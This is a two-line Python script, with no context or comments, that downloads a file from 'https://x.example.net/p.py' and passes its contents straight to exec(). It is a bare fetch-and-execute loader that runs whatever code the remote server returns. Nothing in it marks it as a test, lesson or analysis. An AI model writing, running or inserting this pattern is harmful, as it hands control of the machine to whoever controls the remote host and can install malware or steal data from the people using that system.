import urllib.request

exec(urllib.request.urlopen('https://x.example.net/p.py').read())
